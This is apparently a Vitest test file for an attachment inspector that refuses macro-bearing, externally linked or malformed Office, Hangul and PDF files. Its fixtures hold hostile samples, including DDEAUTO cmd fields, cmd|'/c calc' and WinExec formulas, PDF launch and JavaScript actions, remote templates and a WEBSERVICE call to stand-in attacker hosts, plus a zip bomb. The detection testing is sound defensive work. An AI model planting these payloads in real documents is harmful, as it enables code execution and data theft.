import zlib from 'node:zlib';
import { zipSync } from 'fflate';
import { getAttachmentType } from '@site/contract/attachment';
import { describe, expect, test } from 'vitest';

import { findTypeProblem } from '../../server/attachments/attachments.ts';
import { inspectDocument, type Inspection } from '../../server/attachments/inspect-document.ts';
import { createPdf } from './fixture/inquiry.ts';
import {
  createContentTypes,
  createDocx,
  createHwpx,
  OFFICE,
  createPptx,
  createRelationship,
  createExternalRelationship,
  createXlsx,
} from './fixture/zip.ts';

/** Inspects a document in this process, because the server's separate process takes longer to start than to work. */
const getProblem = (name: string, content: Buffer): string | undefined =>
  findTypeProblem({ name, content }) ??
  inspectDocument({ type: getAttachmentType(name) as Inspection['type'], content });

const begin = '<w:fldChar w:fldCharType="begin"/>';
const separate = '<w:fldChar w:fldCharType="separate"/>';
const end = '<w:fldChar w:fldCharType="end"/>';
const createCode = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const createField = (text: string, result = '') =>
  begin + createCode(text) + separate + result + end;
const createDocxWithBody = (body: string) => createDocx({}, body);
const createDocxWithRelations = (xml: string) =>
  createDocx({ 'word/_rels/document.xml.rels': xml });
const createXlsxWithFormula = (text: string) => createXlsx({}, `<c><f>${text}</f></c>`);
const createXlsxWithRelations = (xml: string) => createXlsx({ 'xl/_rels/workbook.xml.rels': xml });
const createDocxWithDrawing = (svg: string) =>
  createDocx({ 'word/media/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${svg}</svg>` });
const createPart = (name: string, type: string, content: string | Buffer = '<x/>') => ({
  '[Content_Types].xml': createContentTypes(
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
    `<Override PartName="/${name}" ContentType="${type}"/>`,
  ),
  [name]: content,
});
const createHpf = (item: string) =>
  createHwpx({ 'Contents/content.hpf': `<opf:package>${item}</opf:package>` });

const createPdfWithText = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`, 'latin1');
const createPdfWithObject = (text: string) => createPdfWithText(`1 0 obj ${text} endobj`);
/** Creates a PDF whose objects are in a compressed stream. */
const createPackedPdf = (objects: string | Buffer, dictionary = '', type = '/Type /ObjStm') =>
  Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< ${type} /N 1 /First 4 ${dictionary} /Filter /FlateDecode >>\nstream\n`,
    ),
    zlib.deflateSync(objects),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
/** A file attached to a page, with the minimum that the standard requires. */
const ATTACHED_FILE = [
  '4 0 obj <</Type/Annot/Subtype/FileAttachment/Rect[5 5 8 8]/FS<</F(run.exe)/EF<</F 5 0 R>>>>>> endobj',
  '5 0 obj <</Length 15>> stream 123456789012345 endstream endobj',
].join('\n');

/** The script that Hangul writes into documents without macros. */
const NO_MACROS = {
  header: 'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n',
  source: 'function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n',
};
const OUTSIDE = 'https://attacker.example/template.dotm';
const SHARE = String.raw`\\attacker.example\share\x`;

/** Creates a ZIP archive with some of its bytes changed. */
function createChangedDocx(change: (bytes: Buffer, directory: number) => void): Buffer {
  const bytes = Buffer.from(createDocx({ 'word/document.xml': '<w:document/>' }));
  change(bytes, bytes.indexOf('PK\x01\x02', 0, 'latin1'));
  return bytes;
}
/** The same parts as another program packs them: with folders, extra fields, and compression. */
const repack = (parts: Readonly<Record<string, string>>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(parts).map(([name, text]) => [
          name,
          [
            Buffer.from(text),
            {
              level: text === '' ? 0 : 9,
              extra: { 0x000a: new Uint8Array(32) },
              mtime: new Date(2026, 1),
            },
          ],
        ]),
      ),
    ),
  );
const HWPX_PARTS = { 'version.xml': '<v/>', 'Contents/content.hpf': '<opf:package/>' };

/** Documents by file name and by what they contain. */
type Documents = Readonly<Record<string, Readonly<Record<string, Buffer>>>>;

const listDocuments = (
  documents: Documents,
): [description: string, name: string, content: Buffer][] =>
  Object.entries(documents).flatMap(([name, contents]) =>
    Object.entries(contents).map(([description, content]): [string, string, Buffer] => [
      description,
      name,
      content,
    ]),
  );

/** Refused documents by their problem. */
const REFUSED: Readonly<Record<string, Documents>> = {
  'attachment.macro': {
    'a.docx': {
      'a VBA project': createDocx({ 'word/vbaProject.bin': 'macro' }),
      'the type of macros': OFFICE.docm,
      'an ActiveX control': createDocx({ 'word/activeX/activeX1.bin': 'x' }),
      'a control': createDocxWithBody('<w:control r:id="r1"/>'),
      'a field that runs a macro': createDocxWithBody(createField('MACROBUTTON Run [click]')),
      'a macro in a document within it': createDocx({
        'word/embeddings/Sheet.xlsx': createXlsx({ 'xl/vbaProject.bin': 'x' }),
      }),
      'a script in a drawing': createDocxWithDrawing('<svg:script>alert(1)</svg:script>'),
      'an event in a drawing': createDocxWithDrawing('<path onload="alert(1)"/>'),
    },
    'a.xlsx': {
      'the relationship of a macro sheet': createXlsxWithRelations(
        createRelationship(
          'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
          'macrosheets/sheet1.xml',
        ),
      ),
      'a shape that runs a macro of another file': createXlsx({
        'xl/drawings/drawing1.xml': `<xdr:sp macro="'${SHARE}'!Run"/>`,
      }),
    },
    'a.pptx': {
      'a button of a slide that starts a program': createPptx(
        {},
        '<a:hlinkClick action="ppaction://program" r:id="r1"/>',
      ),
    },
    'a.hwpx': {
      'a macro of Hangul': createHwpx({
        'Scripts/sourceScripts': NO_MACROS.source.replace('//todo', 'Run("cmd") //todo'),
      }),
      'a macro behind what looks like a comment': createHwpx({
        'Scripts/sourceScripts.js': NO_MACROS.source.replace('todo', 'todo\u2028Run()'),
      }),
    },
    'a.pdf': {
      'a script': createPdfWithObject('<< /S /JavaScript /JS (app.alert(1)) >>'),
      'a script with an escaped name': createPdfWithObject('<< /S /J#61vaScript >>'),
      'a program to start': createPdfWithObject('<< /S /Launch /F (cmd.exe) >>'),
      'a script in a compressed stream': createPackedPdf('1 0 << /S /JavaScript >>'),
      'a script in a stream whose dictionary is long': createPackedPdf(
        '1 0 << /S /JavaScript >>',
        `/Pad (${'A'.repeat(3000)} obj)`,
      ),
      'a script in a stream that does not tell its kind': createPackedPdf(
        '% 1\n1 0 << /S /JavaScript >>',
        '',
        '',
      ),
    },
  },
  'attachment.embedded': {
    'a.docx': {
      'an OLE object': createDocx({ 'word/embeddings/oleObject1.bin': 'OLE' }),
      'a program': createDocx({ 'word/media/run.exe': 'MZ' }),
      'an archive': createDocx({ 'word/media/more.zip': 'PK' }),
      'a web page to be merged': createDocxWithRelations(
        createRelationship('aFChunk', 'page.html'),
      ),
    },
    'a.pptx': {
      'a film': createPptx({ 'ppt/media/film.mp4': 'x' }),
    },
    'a.hwpx': {
      'an object of Hangul': createHwpx({ 'BinData/ole1.ole': 'OLE' }),
    },
    'a.pdf': {
      'a file within it': createPdfWithObject('<< /Names << /EmbeddedFiles 2 0 R >> >>'),
      'a file that is attached to a page': createPdfWithText(ATTACHED_FILE),
      'a file of a text': createPdfWithObject('<< /AF [<< /F (a.exe) /E#46 << /UF 5 0 R >> >>] >>'),
      'a collection of files': createPdfWithObject('<< /Collection << /View /D >> >>'),
      'an annotation that plays': createPdfWithObject('<< /Subtype /Screen /Rect [0 0 1 1] >>'),
    },
  },
  'attachment.external': {
    'a.docx': {
      'a template from outside': createDocx({
        'word/_rels/settings.xml.rels': createExternalRelationship('attachedTemplate', OUTSIDE),
      }),
      'a picture from outside': createDocxWithRelations(
        createExternalRelationship('image', OUTSIDE),
      ),
      'a picture from outside that does not say so': createDocxWithRelations(
        createRelationship('image', OUTSIDE),
      ),
      'a picture of a share': createDocxWithRelations(
        createRelationship('image', '//attacker.example/x.png'),
      ),
      'a link to a network share': createDocxWithRelations(
        createExternalRelationship('hyperlink', 'file://host/a'),
      ),
      'a template whose address ends like an element': createDocx({
        'word/_rels/settings.xml.rels': createExternalRelationship(
          'attachedTemplate',
          `${OUTSIDE}?>`,
        ),
      }),
      'a template under another prefix': createDocx({
        'word/_rels/settings.xml.rels': createExternalRelationship(
          'attachedTemplate',
          OUTSIDE,
        ).replaceAll(/(<\/?)Rel/g, '$1r-1:Rel'),
      }),
      'an add-in of the web': createDocxWithRelations(
        createRelationship(
          'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          'taskpanes.xml',
        ),
      ),
      'a field that links': createDocxWithBody(
        createField(String.raw`LINK Excel.Sheet.8 "\\\\evil\\x.xls" A1`),
      ),
      'a field that includes a text with slashes': createDocxWithBody(
        createField('INCLUDETEXT "//evil/a"'),
      ),
      'a field that includes a picture': createDocxWithBody(
        createField('INCLUDEPICTURE "http://evil/a.png"'),
      ),
      'a field that names another document': createDocxWithBody(createField('RD "x.docx"')),
      'a query of a database': createDocxWithBody('<w:fldSimple w:instr="DATABASE \\d x"/>'),
      'DDE in an attribute': createDocxWithBody("<w:fldSimple w:instr = 'DDEAUTO cmd'/>"),
      'DDE in a CDATA section': createDocxWithBody(createField('<![CDATA[DDEAUTO cmd]]>')),
      'DDE around a comment': createDocxWithBody(createField('DDE<!-- -->AUTO cmd')),
      'DDE in pieces': createDocxWithBody(begin + createCode('DD') + createCode('EAUTO cmd') + end),
      'DDE in references': createDocxWithBody(createField('&#68;&#x44;E cmd "x"')),
      'DDE without the beginning of a field': createDocxWithBody(createCode('DDEAUTO cmd')),
      'DDE in a deleted field': createDocxWithBody(
        `${begin}<w:delInstrText>DDEAUTO cmd</w:delInstrText>${end}`,
      ),
      'DDE in the result of a field': createDocxWithBody(
        createField('PAGE', createField('DDEAUTO cmd')),
      ),
      'a letter that is merged with data': createDocx({
        'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>',
      }),
      'a picture of older releases from outside': createDocxWithBody(
        `<v:imagedata o:href="${OUTSIDE}"/>`,
      ),
      'a style sheet from outside': createDocx({
        'customXml/item1.xml': `<?xml-stylesheet href="${OUTSIDE}"?><x/>`,
      }),
      'a picture in a drawing from outside': createDocxWithDrawing(`<image href="${OUTSIDE}"/>`),
      'a font in a drawing from outside': createDocxWithDrawing(
        `<style>@font-face{src:url(${OUTSIDE})}</style>`,
      ),
    },
    'a.pptx': {
      'a link that opens under the pointer': createPptx({}, '<a:hlinkMouseOver r:id="r1"/>'),
    },
    'a.xlsx': {
      'a connection to a database': createXlsxWithRelations(
        createRelationship('connections', 'connections.xml'),
      ),
      'a query of a web page': createXlsxWithRelations(
        createRelationship('queryTable', 'queryTable1.xml'),
      ),
      'a link to another workbook': createXlsxWithRelations(
        createRelationship('externalLink', 'externalLinks/externalLink1.xml'),
      ),
      'a DDE link': createXlsx({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' }),
      'a DDE formula': createXlsxWithFormula("cmd|'/c calc'!A1"),
      'a formula that asks the web': createXlsxWithFormula(
        'WEBSERVICE(&quot;http://evil/&quot;&amp;A1)',
      ),
      'the same function with its prefix': createXlsxWithFormula('_xlfn.WEBSERVICE(A1)'),
      'a picture that a formula loads': createXlsxWithFormula('_xlfn.IMAGE(A1)'),
      'a formula in a rule of formats': createXlsx({}, '<x:formula>RTD(A1)</x:formula>'),
      'a name that calls a library': createXlsx(
        {},
        '<definedName name="x">CALL("kernel32","WinExec")</definedName>',
      ),
      'a formula that names a file': createXlsxWithFormula(`'${SHARE}[a.xlsx]S'!A1`),
      'a pivot table of outside data': createXlsx({
        'xl/pivotCache/a.xml':
          '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>',
      }),
    },
    'a.hwpx': {
      'a film of Hangul that is elsewhere': createHpf(
        String.raw`<opf:item href="C:\\Users\\a.avi" media-type="image/avi" isEmbeded="0"/>`,
      ),
      'a picture of Hangul from a share': createHpf(
        '<opf:item href="//evil/a.png" media-type="image/png"/>',
      ),
    },
    'a.pdf': {
      'another file that it opens by itself': createPdfWithObject(
        String.raw`<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>`,
      ),
      'an address that it opens by itself': createPdfWithObject(
        '<</OpenAction<</S/URI/URI(http://evil/)>>>>',
      ),
      'the same by reference': createPdfWithText(
        '1 0 obj <</OpenAction 2 0 R>> endobj 2 0 obj <</S/URI/URI(http://evil/)>> endobj',
      ),
      'an address that opens with a page': createPdfWithObject(
        '<</AA<</O<</S/URI/URI(http://evil/)>>>>>>',
      ),
      'an address behind an action of its own': createPdfWithObject(
        '<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI/URI(http://evil/)>>>>>>',
      ),
      'an action in a text, where a table of places may lead': createPdfWithObject(
        '<< /Title (2 0 obj << /S /GoToR /F \\(x\\) >> endobj) >>',
      ),
      'a click on a file': createPdfWithObject('<< /A << /S /URI /URI (file:///c:/x) >> >>'),
      'a stream from another file': createPdfWithText(
        '1 0 obj << /Length 0 /F (http://evil/x) >> stream\nendstream endobj',
      ),
      'a picture from a print shop': createPdfWithObject('<< /OPI << /2.0 2 0 R >> >>'),
      'an action in a compressed stream': createPackedPdf('1 0 << /A << /S /GoToR /F (x) >> >>'),
    },
  },
  'attachment.unknown': {
    'a.docx': {
      'a relationship that nobody knows': createDocxWithRelations(
        createRelationship('https://a.example/loadsSomething', 'x.xml'),
      ),
      'a content type that nobody knows': createDocx(createPart('word/x.xml', 'application/x-run')),
      'a field whose name another one makes': createDocxWithBody(
        begin + createField('QUOTE 68 68 69') + createCode(' cmd') + end,
      ),
      'a field that nobody knows': createDocxWithBody(createField('RUNSOMETHING x')),
    },
    'a.hwpx': {
      'a field of Hangul that nobody knows': createHwpx({
        'Contents/section0.xml': '<hp:fieldBegin type="RUN"/>',
      }),
    },
    'a.pdf': {
      'an action that nobody knows': createPdfWithObject('<< /A << /S /Run >> >>'),
    },
  },
  'attachment.chart': {
    'a.hwpx': {
      'a chart of Hangul': createHwpx({
        'Chart/chart1.xml': '<c:chart/>',
        'BinData/ole1.ole': 'OLE',
      }),
    },
  },
  'attachment.password': {
    'a.hwpx': {
      'a password of Hangul': createHwpx({
        'META-INF/manifest.xml': '<m><odf:encryption-data/></m>',
      }),
    },
    'a.docx': {
      'a part with a password': createChangedDocx(
        (bytes, at) => void (bytes.writeUInt16LE(1, 6), bytes.writeUInt16LE(1, at + 8)),
      ),
    },
    'a.pdf': {
      'a password': createPdfWithText('trailer << /Encrypt 5 0 R >>'),
    },
  },
  'attachment.mismatch': {
    'a.docx': {
      'the content of an archive': OFFICE.zip,
      'the content of a sheet': OFFICE.xlsx,
      'the content of an HWPX': OFFICE.hwpx,
      'two beginnings': createDocx({
        '_rels/.rels':
          createRelationship('officeDocument', 'main.xml').replace('</Relationships>', '') +
          createRelationship('officeDocument', 'other.xml').replace(/^<Relationships[^>]*>/, ''),
      }),
    },
    'a.hwpx': {
      'the content of a book': OFFICE.epub,
    },
  },
  'attachment.invalid': {
    'a.docx': {
      'the head of an archive alone': OFFICE.docx.subarray(0, 20),
      'text before the archive': Buffer.concat([Buffer.from('PK\x03\x04'), OFFICE.docx]),
      'text behind the archive': Buffer.concat([OFFICE.docx, Buffer.from('<html>')]),
      entities: createDocx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' }),
      'a document type from outside': createDocx({
        'word/a.xml': '<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>',
      }),
      'parts that are not XML': createDocx({ 'word/a.xml': '<a><b></a>' }),
      'parts in another encoding': createDocxWithBody('\ufffd\0<'),
      'two parts of one name': createDocx({ 'word/a.xml': '<a/>', 'word/A.XML': '<a/>' }),
      'a part outside of its archive': createDocx({ '../a.xml': '<a/>' }),
      'a size that is not true': createChangedDocx(
        (bytes, at) => void bytes.writeUInt32LE(1, at + 24),
      ),
      'a checksum that is not true': createChangedDocx(
        (bytes, at) => void bytes.writeUInt32LE(1, at + 16),
      ),
      'a part that is named in two ways': createChangedDocx((bytes) => void bytes.write('X', 30)),
    },
    'a.pdf': {
      'an archive behind it': Buffer.concat([createPdfWithText(''), OFFICE.zip]),
      'objects that are packed twice': Buffer.from(
        createPackedPdf(zlib.deflateSync('1 0 << /S /JavaScript >>'))
          .toString('latin1')
          .replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
        'latin1',
      ),
      'a predictor over its objects': createPackedPdf('<< >>', '/DecodeParms << /Predictor 12 >>'),
      'objects that do not unpack': createPdfWithText(
        '1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream',
      ),
    },
  },
  'attachment.form': {
    'a.pdf': {
      'a form that sends': createPdfWithObject('<< /A << /S /SubmitForm /F (http://evil/) >> >>'),
      'a form that is a program': createPdfWithObject('<< /XFA 2 0 R >>'),
    },
  },
};

describe.each(Object.entries(REFUSED))('%s', (problem, documents) => {
  test.each(listDocuments(documents))('refuses a document with %s', (_what, name, content) => {
    expect(getProblem(name, content)).toBe(problem);
  });
});

/** Accepted documents by file name and by what they contain. */
const ACCEPTED: Documents = {
  'a.docx': {
    'no more than its kind': OFFICE.docx,
    'links to the web': createDocxWithRelations(
      createExternalRelationship('hyperlink', 'https://a.example/'),
    ),
    'links to mail': createDocxWithRelations(
      createExternalRelationship('hyperlink', 'mailto:a@example.com'),
    ),
    'a picture': createDocx({
      'word/_rels/document.xml.rels': createRelationship('image', 'media/image1.png'),
      'word/media/image1.png': 'PNG',
    }),
    'comments, notes and headers': createDocxWithRelations(
      createRelationship('comments', 'comments.xml'),
    ),
    'parts in the strict variant': createDocxWithRelations(
      createRelationship(
        'http://purl.oclc.org/ooxml/officeDocument/relationships/styles',
        'styles.xml',
      ),
    ),
    'a signature': createDocx({
      ...createPart(
        '_xmlsignatures/origin.sigs',
        'application/vnd.openxmlformats-package.digital-signature-origin',
        '',
      ),
      '_rels/more.rels': createRelationship(
        'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
        '_xmlsignatures/origin.sigs',
      ),
    }),
    'a type that no part has': createDocx({
      '[Content_Types].xml': createContentTypes(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    'a table of contents': createDocxWithBody(
      begin +
        createCode('TOC \\o "1-3" \\h') +
        separate +
        createField('HYPERLINK \\l "_Toc1"', createField('PAGEREF _Toc1 \\h')) +
        end,
    ),
    'page numbers, dates and cross-references': createDocxWithBody(
      createField('PAGE') + createField(' DATE \\@ "yyyy-MM-dd" ') + createField('REF _Ref1 \\h'),
    ),
    'a link that is a field': createDocxWithBody(createField('HYPERLINK "https://a.example/"')),
    'a calculation': createDocxWithBody(createField('=SUM(ABOVE)')),
    citations: createDocxWithBody(createField('ADDIN ZOTERO_ITEM CSL_CITATION {}')),
    'places to type at': createDocxWithBody(
      createField('MACROBUTTON NoMacro [이름]') + createField('FORMTEXT'),
    ),
    'characters in a circle': createDocxWithBody(createField('eq \\o\\ac(○,印)')),
    'a condition with a field in it': createDocxWithBody(
      begin + createCode('IF ') + createField('PAGE') + createCode(' = 1 "a" "b"') + end,
    ),
    'a sheet behind a chart': createDocx({
      'word/charts/chart1.xml': '<c:chart><c:f>Sheet1!$A$1</c:f></c:chart>',
      'word/embeddings/Sheet.xlsx': OFFICE.xlsx,
    }),
    'the words of an attack as text': createDocxWithBody(
      '<w:t>DDE, javascript: and INCLUDETEXT https:</w:t>',
    ),
    'a drawing of one long attribute': createDocxWithDrawing(
      `<path d="${'M0 0'.repeat(50_000)}"/>`,
    ),
    'a drawing with links, gradients and a picture in it': createDocxWithDrawing(
      '<a href="https://a.example/"><path fill="url(#g)"/></a><image href="data:image/png;base64,AA=="/>',
    ),
    'the document type of drawings': createDocx({
      'word/media/a.svg':
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    }),
  },
  'a.xlsx': {
    'no more than its kind': OFFICE.xlsx,
    'a link to a place in it': createXlsxWithRelations(
      createRelationship('hyperlink', '#Sheet1!A1'),
    ),
    formulas: createXlsxWithFormula('IFERROR(VLOOKUP(A1,표!$A:$B,2,FALSE),&quot;a|b!c&quot;)'),
    'formulas of newer releases': createXlsxWithFormula(
      '_xlfn.LET(_xlpm.x,_xlfn._xlws.FILTER(A:A,B:B),_xlfn.XLOOKUP(1,_xlpm.x,C:C))',
    ),
    'a function that the workbook defines': createXlsx(
      {},
      '<definedName name="Twice">_xlfn.LAMBDA(_xlpm.x,2*_xlpm.x)</definedName><c><f>Twice(A1)</f></c>',
    ),
    'a link in a formula': createXlsxWithFormula(
      'HYPERLINK(&quot;https://a.example/&quot;,&quot;a&quot;)',
    ),
    'sheets that are named in many ways': createXlsxWithFormula(
      "SUM('2026 (1월)'!A1,'a-b'!B2,'1월:3월'!C3)",
    ),
    'a pivot table of its own data': createXlsx({
      'xl/pivotCache/a.xml':
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
    }),
    'drawings as Excel writes them': createXlsx({
      'xl/drawings/vmlDrawing1.vml': '<xml><v:textbox>a<br>b</v:textbox></xml>',
    }),
    'shapes without a macro': createXlsx({
      'xl/drawings/drawing1.xml': '<xdr:sp macro="" textlink="Sheet1!$A$1"/>',
    }),
    'what online sheets add': createXlsx({
      'xl/metadata': 'x',
      'xl/_rels/workbook.xml.rels': createRelationship(
        'http://customschemas.google.com/relationships/workbookmetadata',
        'metadata',
      ),
    }),
  },
  'a.pptx': {
    'no more than its kind': OFFICE.pptx,
    'buttons that lead to other slides': createPptx(
      {},
      '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide" r:id=""/><a:hlinkMouseOver action="ppaction://hlinksldjump" r:id="r2"/>',
    ),
  },
  'a.hwpx': {
    'no more than its kind': OFFICE.hwpx,
    'an equation': createHwpx({
      'Contents/section0.xml': '<hp:equation><hp:script>a over b</hp:script></hp:equation>',
    }),
    'links and fields of Hangul': createHwpx({
      'Contents/section0.xml':
        '<a><hp:fieldBegin type="HYPERLINK"/><hp:fieldBegin type="CLICK_HERE"/></a>',
    }),
    'pictures of Hangul': createHpf(
      '<opf:item href="BinData/image1.bmp" media-type="image/bmp" isEmbeded="1"/>',
    ),
    'the place of macros without any': createHwpx({
      'Scripts/headerScripts': Buffer.from(NO_MACROS.header, 'utf16le'),
      'Scripts/sourceScripts.js': NO_MACROS.source,
    }),
    'a compressed mimetype and fields of another program': repack({
      mimetype: 'application/hwp+zip',
      ...HWPX_PARTS,
    }),
    'its parts in another order, with folders': repack({
      'Contents/': '',
      ...HWPX_PARTS,
      mimetype: 'application/hwp+zip',
    }),
    'no mimetype': repack(HWPX_PARTS),
  },
  'a.pdf': {
    'no more than its kind': Buffer.from(createPdf(100)),
    'links to the web': createPdfWithObject(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /F 4 /A << /S /URI /URI (https://a.example/) >> >>',
    ),
    'a link without a scheme': createPdfWithObject('<< /A << /S /URI /URI (www.a.example) >> >>'),
    'a first page to show': createPdfWithObject('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>'),
    'a first page by its place': createPdfWithObject('<< /OpenAction [3 0 R /XYZ null null 0] >>'),
    bookmarks: createPdfWithText(
      '1 0 obj << /Title (a) /A 2 0 R /Next 3 0 R >> endobj 2 0 obj << /S /GoTo /D (a) >> endobj 3 0 obj << /Title (b) /Dest (b) >> endobj',
    ),
    'a form to fill in and print': createPdfWithObject(
      '<< /Subtype /Widget /Rect [0 0 1 1] /FT /Tx /AA << /D << /S /Named /N /Print >> >> >>',
    ),
    'names of fonts that are like keys': createPdfWithText(
      '1 0 obj << /Resources << /Font << /A 2 0 R /EF 2 0 R /F 2 0 R >> >> >> endobj 2 0 obj << /Type /Font /Subtype /Type1 >> endobj',
    ),
    'the structure of a tagged document': createPdfWithObject(
      '<< /S /Table /A << /O /Table /Summary (a) >> >>',
    ),
    'objects in a compressed stream': createPackedPdf('1 0 << /Type /Page >>'),
    'the words of an attack in a compressed page': createPackedPdf(
      '1 0 0 1 50 700 cm (HTML/JavaScript) Tj',
      '',
      '',
    ),
    'words in a page': createPdfWithText('1 0 obj << /Length 3 >>\nstream\n/JS\nendstream endobj'),
  },
};

test.each(listDocuments(ACCEPTED))('accepts a document with %s', (_what, name, content) => {
  expect(getProblem(name, content)).toBeUndefined();
});

test('refuses a document that unpacks to more than the memory', () => {
  const bomb = zipSync({ 'word/document.xml': new Uint8Array(70 * 1024 * 1024) });
  expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
  expect(getProblem('a.docx', Buffer.from(bomb))).toBe('attachment.invalid');
});

test('refuses unclosed elements before they use memory', () => {
  expect(getProblem('a.docx', createDocxWithBody('<a>'.repeat(1_000_000)))).toBe(
    'attachment.invalid',
  );
});

test.each([
  // With a cost that grows with the square of the length, each of these would take more than an hour.
  [
    'bars in a formula',
    'a.xlsx',
    createXlsxWithFormula('|'.repeat(2_000_000)),
    'attachment.invalid',
  ],
  [
    'fields',
    'a.docx',
    createDocxWithBody('<w:fldSimple w:instr="PAGE "/>'.repeat(50_000)),
    undefined,
  ],
  [
    'letters in formulas',
    'a.xlsx',
    createXlsxWithFormula(`${'a'.repeat(8000)}</f><f>`.repeat(200)),
    undefined,
  ],
  [
    'texts that do not end',
    'a.pdf',
    createPdfWithText('1 0 obj ('.repeat(200_000)),
    'attachment.invalid',
  ],
  [
    'comments that do not end',
    'a.pdf',
    createPdfWithText('1 0 obj %'.repeat(200_000)),
    'attachment.invalid',
  ],
  ['lists that do not end', 'a.pdf', createPdfWithText('1 0 obj ['.repeat(200_000)), undefined],
  ['references', 'a.pdf', createPdfWithObject(`<< /A [${'1 0 R '.repeat(200_000)}] >>`), undefined],
])(
  '%s that are written to be slow take no longer than their length',
  (_what, name, content, problem) => {
    expect(getProblem(name, content)).toBe(problem);
  },
);
